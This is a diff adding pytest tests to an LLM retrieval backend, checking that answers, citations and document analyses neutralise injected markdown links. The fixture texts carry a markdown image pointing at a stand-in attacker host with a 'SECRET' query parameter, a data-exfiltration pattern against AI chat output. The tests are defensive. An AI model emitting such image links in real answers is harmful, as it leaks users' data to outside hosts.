@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from collections.abc import Mapping
 from typing import Any
 
@@ -420,6 +421,33 @@ def test_an_explained_answer_tells_what_it_came_from(client: LLMBackendClient, f
     assert stream.answer.explanation is not None
     assert stream.answer.explanation.candidates == explanation.candidates
     assert client.rag_query(QUESTION, filled).explanation is None
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_quote_cites_and_links_nothing_itself(
+    client: LLMBackendClient, collection: str, stream: bool
+) -> None:
+    text = "Vacation is 28 days a year [2], ［1］ see ![x](http://evil.test/?q=SECRET) [the plan](http://evil.test/plan)."
+    client.rag_ingest([{"id": "a", "text": text}, "The canteen opens at noon."], collection)
+    question = "How many days of vacation are there a year?"
+    if stream:
+        events = client.rag_query(question, collection, stream=True)
+        said = "".join(events)
+        answer = events.answer
+    else:
+        answer = client.rag_query(question, collection)
+        said = str(answer)
+    assert said == answer == "Vacation is 28 days a year (2), (1) see  the plan (evil.test). [1]"
+    assert (answer.citations, answer.sources[0].quote) == ([1], text)
+    for shown in (answer, answer.sources, answer.sources[0]):
+        assert not re.search("<(?:img|a)\\b", shown._repr_html_())
+
+
+def test_an_analysis_links_nothing(client: LLMBackendClient) -> None:
+    text = "The harbour is deep [7], says ![x](http://evil.test/?q=SECRET)[the mayor](http://evil.test/plan). It is old."
+    analysis = client.analyze_document(text)
+    assert "The harbour is deep [7], says the mayor (evil.test)." in analysis.key_points
+    assert "evil.test/" not in analysis.summary
 
 
 # A collection as a chat model
